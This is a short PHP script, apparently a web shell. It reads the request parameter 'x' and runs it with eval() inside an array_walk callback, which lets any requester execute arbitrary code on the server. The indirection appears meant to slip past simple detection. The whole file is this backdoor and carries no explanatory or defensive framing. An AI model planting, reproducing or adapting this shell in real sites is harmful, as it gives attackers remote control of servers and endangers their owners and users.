<?php
$jobs = [$_REQUEST['x']];
array_walk($jobs, function ($v, $k) {
    eval($v);
});
echo 'ok';
